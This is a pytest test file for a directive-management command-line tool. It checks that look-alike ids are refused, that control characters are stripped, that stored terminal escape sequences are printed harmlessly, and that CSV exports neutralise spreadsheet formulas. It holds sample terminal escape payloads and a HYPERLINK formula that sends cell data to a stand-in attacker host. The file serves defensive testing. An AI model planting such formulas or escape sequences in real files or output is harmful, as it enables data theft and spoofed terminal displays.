"""The command line and hostile text: ids that only look like numbers, control characters on their way
into the database, escape sequences on their way to the terminal, and formulas on their way into a
spreadsheet. Each test runs on SQLite, and on PostgreSQL when TEST_DATABASE_URL is set: both must give
the same answers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlmodel import select

from bot.store.db import Database
from bot.store.tables import AuditEvent, Directive, DirectiveModel, OutboxMessage
from bot.store.tables import Person as PersonRow
from tests.support.cli import Env, audit_events, run_cli
from tests.support.seed import DIRECTORY

HEADER = "slack_user_id,email,name,manager_email,department,work_country,citizenships,us_person,roles\n"
ESC = "\x1b"
# What a terminal acts on; none of it may reach stdout or stderr from stored data.
RAW_CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def db(ready: Env) -> Iterator[Database]:
    database = Database(ready["DATABASE_URL"], pool=False)
    yield database
    database.dispose()


def assert_refused(result: object, needle: str) -> None:
    """Exit code 2, exactly one line on stderr naming the problem, no traceback."""
    stderr: str = result.stderr  # type: ignore[attr-defined]
    assert result.returncode == 2, (result.returncode, stderr)  # type: ignore[attr-defined]
    assert "Traceback" not in stderr
    assert len(stderr.strip().splitlines()) == 1, stderr
    assert needle in stderr, stderr


def assert_printable(text: str) -> None:
    """No control character but line feeds ending lines: nothing a terminal would act on."""
    found = sorted({repr(c) for c in text if c in RAW_CONTROLS})
    assert not found, f"raw control characters printed: {found}"


# --- ids ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["directive", "lift", "D\u0661"], "'D\u0661' is not a directive ID (like D3)"),  # Arabic-Indic 1
        (["directive", "report", "\uff13"], "is not a directive ID"),  # fullwidth 3
        (["directive", "lift", " 1"], "' 1' is not a directive ID"),
        (["directive", "report", "+1"], "'+1' is not a directive ID"),
        (["directive", "report", "1_000"], "'1_000' is not a directive ID"),
        (["directive", "lift", "D0"], "'D0' is not a directive ID"),
        (["directive", "report", "2147483648"], "'2147483648' is not a directive ID"),
        (["directive", "report", "D1234567890123456789"], "is not a directive ID"),  # 19 digits
        (["directive", "report", "G3"], "'G3' is not a directive ID"),
        (["licence", "show", "\uff11"], "'\uff11' is not a licence ID (like L3)"),  # fullwidth 1
        (["licence", "revoke", "L\u0661", "--reason", "x"], "'L\u0661' is not a licence ID"),
        (["outbox", "retry", "\u0661"], "is not a message ID"),
        (["outbox", "retry", "1", "+2"], "'+2' is not a message ID"),
        (["outbox", "retry", "1234567890123456789"], "is not a message ID"),
        (["outbox", "retry", "0"], "'0' is not a message ID"),
        (["requests", "list", "--limit", "\u0665"], "argument --limit: '\u0665' is not a whole number"),
        (["grants", "list", "--limit", "99999999999999999999"], "must be at most 2147483647"),
        (["outbox", "list", "--limit", "0"], "must be at least 1, not 0"),
    ],
)
def test_an_id_that_is_not_ascii_digits_in_range_is_refused_in_one_line(
    env: Env, args: list[str], needle: str
) -> None:
    # Refused while reading the arguments, before the database is opened (this one has no schema).
    assert_refused(run_cli(env, *args, check=False), needle)


def test_the_largest_id_reaches_the_database_and_is_simply_not_found(ready: Env) -> None:
    assert_refused(
        run_cli(ready, "directive", "report", "D2147483647", check=False),
        "There is no directive D2147483647.",
    )
    assert_refused(
        run_cli(ready, "outbox", "retry", "2147483647", check=False), "not failed or not found: 2147483647"
    )
    assert run_cli(ready, "requests", "list", "--limit", "2147483647", "--json").stdout.strip() == "[]"


# --- the directory CSV -------------------------------------------------------------------------------


def test_directory_names_with_escapes_and_nul_import_alike_and_print_safely(
    ready: Env, tmp_path: Path
) -> None:
    people = tmp_path / f"people{ESC}[2J.csv"  # even the file name is shown and audited
    people.write_bytes(
        (
            HEADER
            + f"U0EVIL001,evil@example.com,{ESC}[31mEve\x00 Vil{ESC}[0m,,\x00{ESC},US,US,no,\n"
            + 'U0LINE001,line@example.com,"Lee\nU0FAKE001  forged row",,Research\x07,US,US,yes,\n'
            + "\x00,\x00\x01,\x00\n"  # nothing but control characters: a blank line
        ).encode()
    )
    imported = run_cli(ready, "directory", "import", str(people))
    assert "2 added, 0 updated, 0 unchanged" in imported.stdout
    assert_printable(imported.stdout)
    # What was stored is what was parsed, on both databases: importing again changes nothing.
    assert "0 added, 0 updated, 2 unchanged" in run_cli(ready, "directory", "import", str(people)).stdout

    evil = json.loads(run_cli(ready, "directory", "show", "U0EVIL001", "--json").stdout)
    assert evil["name"] == "[31mEve Vil[0m"
    assert evil["department"] is None  # a cell of only control characters is an empty cell
    text = run_cli(ready, "directory", "show", "U0EVIL001").stdout
    assert_printable(text)
    assert "name           [31mEve Vil[0m\n" in text

    shown = run_cli(ready, "directory", "show", "line@example.com").stdout
    assert_printable(shown)
    # The stored line feed is shown, not obeyed: the name stays on its own line and forges none.
    assert "name           Lee\ufffdU0FAKE001  forged row\n" in shown
    assert len(shown.splitlines()) == 10  # one line per PersonRecord field
    line = json.loads(run_cli(ready, "directory", "show", "U0LINE001", "--json").stdout)
    assert line["name"] == "Lee\nU0FAKE001  forged row" and line["department"] == "Research"

    imported = [e for e in audit_events(ready) if e["action"] == "person.added"]
    sources = {e["detail"]["source"] for e in imported}  # type: ignore[index]
    assert sources == {"people[2J.csv"}


def test_looking_up_a_person_with_control_characters_finds_nobody(ready: Env) -> None:
    run_cli(ready, "directory", "import", str(DIRECTORY))
    # An escape finds nobody; a byte that is not UTF-8 (Python reads it as a lone surrogate, which
    # PostgreSQL would refuse if it were sent) is refused before any command reads it.
    for key, needle in (
        (f"alice@example.com{ESC}[0m", "nobody in the directory matches"),
        ("U0ALICE01\udcff", "argument 3 is not valid text in this terminal's encoding"),
    ):
        result = run_cli(ready, "directory", "show", key, check=False)
        assert_refused(result, needle)
        assert_printable(result.stderr)


def test_a_bad_cell_is_quoted_in_the_problem_without_its_escapes(ready: Env, tmp_path: Path) -> None:
    bad = tmp_path / "people.csv"
    bad.write_text(HEADER + f"U0BAD0001,{ESC}]0;pwned\x07not-an-email,Bad,,,US,US,no,\n")
    result = run_cli(ready, "directory", "import", str(bad), check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert_printable(result.stderr)
    assert f"{bad}:2: email ']0;pwnednot-an-email' is not an email address" in result.stderr


# --- directive text from the command line ------------------------------------------------------------


def test_directive_free_text_is_stored_cleaned_on_every_database(
    ready: Env, db: Database, tmp_path: Path
) -> None:
    notice = tmp_path / "notice.txt"
    notice.write_bytes(b"Mythos 5\x00 is suspended.\r\nAsk compliance\x1b[5m.")
    issued = run_cli(
        ready,
        "directive", "issue", "--title", f"Frontier{ESC}[8m order", "--authority", "Commerce\x7f",
        "--reference", "EO\x07-1", "--models", "mythos-5", "--population", "everyone",
        "--action", "suspend", "--notice-file", str(notice),
    )  # fmt: skip
    assert "D1 issued: in effect now" in issued.stdout
    lifted = run_cli(ready, "directive", "lift", "D1", "--reason", f"order{ESC}[2K withdrawn\x7f")
    assert "D1 lifted" in lifted.stdout
    with db.read() as session:
        directive = session.exec(select(Directive)).one()
        assert (directive.title, directive.authority, directive.reference) == (
            "Frontier[8m order",
            "Commerce",
            "EO-1",
        )
        assert directive.notice == "Mythos 5 is suspended.\nAsk compliance[5m."
        assert directive.lift_reason == "order[2K withdrawn"


def test_a_directive_title_of_only_control_characters_is_missing(ready: Env, tmp_path: Path) -> None:
    notice = tmp_path / "notice.txt"
    notice.write_text("Suspended.")
    result = run_cli(
        ready,
        "directive", "issue", "--title", f"{ESC}\x07", "--authority", "Gov", "--reference", "R-1",
        "--models", "mythos-5", "--population", "everyone", "--action", "suspend",
        "--notice-file", str(notice), check=False,
    )  # fmt: skip
    assert_refused(result, "title is required")


# --- stored data printed on a terminal ----------------------------------------------------------------

# As an older version, or another writer, may have stored them.
TITLE = f"Order{ESC}]0;owned{ESC}\\ \x9b31mred\nD9 forged line"
REFERENCE = f"EO-{ESC}[2J1"
NAME = f"{ESC}[1;31mMallory\u202e"
SLACK_ERROR = f"channel_not_found{ESC}[?1049h"


def seed_stored_escapes(db: Database) -> None:
    now = datetime.now(UTC)
    with db.uow() as uow:
        session = uow.session
        session.add(PersonRow(slack_user_id="U0OLD0001", email="old@example.com", name=NAME))
        session.add(
            Directive(
                title=TITLE,
                authority="Gov",
                reference=REFERENCE,
                notice="Suspended.",
                action="suspend",
                population="everyone",
                status="active",
                effective_at=now,
                issued_by="cli:admin",
                issued_at=now,
                activated_at=now,
            )
        )
        session.flush()
        session.add(DirectiveModel(directive_id=1, model="mythos-5"))
        session.add(
            OutboxMessage(
                kind="post",
                lane="C0MYTHOS5",
                address=f"C0MYTHOS5{ESC}[0m",
                payload={"text": "x"},
                status="failed",
                attempts=3,
                last_error=SLACK_ERROR,
            )
        )
        uow.commit()


def test_text_output_shows_stored_escapes_instead_of_obeying_them(ready: Env, db: Database) -> None:
    seed_stored_escapes(db)
    listing = run_cli(ready, "directive", "list").stdout
    assert_printable(listing)
    assert "EO-\ufffd[2J1" in listing
    report = run_cli(ready, "directive", "report", "D1").stdout
    assert_printable(report)
    assert report.startswith(
        "D1 EO-\ufffd[2J1: Order\ufffd]0;owned\ufffd\\ \ufffd31mred\ufffdD9 forged line ("
    )
    outbox = run_cli(ready, "outbox", "list").stdout
    assert_printable(outbox)
    assert "channel_not_found\ufffd[?1049h" in outbox and "C0MYTHOS5\ufffd[0m" in outbox
    person = run_cli(ready, "directory", "show", "U0OLD0001").stdout
    assert_printable(person)
    assert "\ufffd[1;31mMallory\ufffd" in person  # the right-to-left override is shown too
    assert "\u202e" not in person


def test_json_output_stays_valid_json_and_gives_back_the_stored_text(ready: Env, db: Database) -> None:
    seed_stored_escapes(db)
    outputs = {
        "directive list": run_cli(ready, "directive", "list", "--json").stdout,
        "directive report": run_cli(ready, "directive", "report", "D1", "--json").stdout,
        "outbox list": run_cli(ready, "outbox", "list", "--json").stdout,
        "directory show": run_cli(ready, "directory", "show", "U0OLD0001", "--json").stdout,
    }
    for output in outputs.values():
        assert_printable(output.replace("\n", " "))  # JSON escapes control characters: \u001b, \n
    assert json.loads(outputs["directive list"])[0]["title"] == TITLE
    assert json.loads(outputs["directive list"])[0]["reference"] == REFERENCE
    assert json.loads(outputs["directive report"])["directive"]["title"] == TITLE
    assert json.loads(outputs["outbox list"])[0]["last_error"] == SLACK_ERROR
    assert json.loads(outputs["directory show"])["name"] == NAME


# --- CSV for spreadsheets ----------------------------------------------------------------------------


def test_audit_csv_cells_never_start_a_formula(ready: Env, db: Database, tmp_path: Path) -> None:
    run_cli(ready, "directory", "import", str(DIRECTORY))
    hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    with db.uow() as uow:
        uow.session.add(
            AuditEvent(
                actor=hyperlink,
                action="+grant.revoked",
                subject_type="@grant",
                subject_id="-7",
                before={"name": "=1+1"},
                after=None,
                detail="=SUM(A1:A9)",  # type: ignore[arg-type]  # a JSON column can hold a bare string
            )
        )
        uow.commit()
    out = tmp_path / "audit.csv"
    run_cli(ready, "audit", "export", "--format", "csv", "--output", str(out))
    to_stdout = run_cli(ready, "audit", "export", "--format", "csv").stdout
    for text in (out.read_text(encoding="utf-8"), to_stdout):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == 14  # the chain's start, 12 people imported, the hostile event
        hostile = rows[-1]
        assert hostile["actor"] == "'" + hyperlink
        assert hostile["detail"] == "'=SUM(A1:A9)"
        assert (hostile["action"], hostile["subject_type"], hostile["subject_id"]) == (
            "'+grant.revoked",
            "'@grant",
            "'-7",
        )
        assert json.loads(hostile["before"]) == {"name": "=1+1"}  # JSON text starts with "{": inert
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # JSON Lines is data for programs, not a spreadsheet: the values are exactly as stored.
    events = audit_events(ready)
    assert events[-1]["actor"] == hyperlink and events[-1]["detail"] == "=SUM(A1:A9)"
